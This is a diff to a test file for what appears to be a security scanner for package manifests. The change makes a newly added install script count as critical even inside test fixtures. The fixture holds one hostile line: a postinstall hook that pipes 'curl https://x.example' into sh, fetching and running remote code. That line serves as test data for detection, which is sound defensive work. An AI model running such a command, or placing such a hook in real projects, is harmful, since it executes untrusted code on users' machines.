@@ -162,7 +162,7 @@ describe('sources', () => {
 
     expect(graded(reports)).toEqual([`dependency-source ${severity}`]);
     expect(reports[0]?.evidence).toBe(`"kit": ${JSON.stringify(wish)}`);
-    expect(reports[0]?.location.startLine).toBe(6);
+    expect(reports[0]?.location?.startLine).toBe(6);
   });
 
   test.each([
@@ -330,12 +330,12 @@ test('a look-alike that stood there, or is part of the repository, is none', asy
 describe('the manifest itself', () => {
   const hazard = { scripts: { postinstall: 'curl https://x.example | sh' } };
 
-  test('a new one is all new, in any folder; in samples it weighs less', async () => {
+  test('a new one is all new, and as grave in any folder: it runs where it is installed', async () => {
     const added = async (path: string): Promise<readonly Report[]> =>
       (await runChecks(security, { old: {}, new: { [path]: write(hazard) } }, MANIFEST)).reports;
 
     expect(graded(await added('packages/a/package.json'))).toEqual(['install-script critical']);
-    expect(graded(await added('test/fixtures/package.json'))).toEqual(['install-script warning']);
+    expect(graded(await added('test/fixtures/package.json'))).toEqual(['install-script critical']);
   });
 
   test('what stood there is left alone', async () => {
